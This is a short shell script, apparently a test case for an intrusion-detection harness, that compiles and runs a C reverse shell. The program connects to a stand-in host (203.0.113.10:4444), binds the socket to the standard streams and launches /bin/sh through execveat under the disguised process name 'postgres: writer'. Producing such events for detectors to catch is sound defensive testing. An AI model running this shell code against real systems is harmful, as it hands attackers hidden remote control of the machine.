#!/bin/sh
. /opt/case/case.sh

cat >/tmp/r.c <<'END'
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(void) {
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(4444) }; inet_pton(AF_INET, "203.0.113.10", &a.sin_addr);
    int s = fcntl(socket(AF_INET, SOCK_STREAM, 0), F_DUPFD, 100); if (connect(s, (void *)&a, sizeof a)) return 1;
    for (int n = 0; n < 3; n++) { close(n); fcntl(s, F_DUPFD, n); }
    char *v[] = { "postgres: writer", 0 }, *e[] = { "PATH=/bin:/usr/bin", 0 };
    syscall(SYS_execveat, open("/bin/sh", O_PATH), "", v, e, AT_EMPTY_PATH); return 1;
}
END
gcc -o /tmp/r /tmp/r.c && /tmp/r || true
wait_for /tmp/reached
took_place
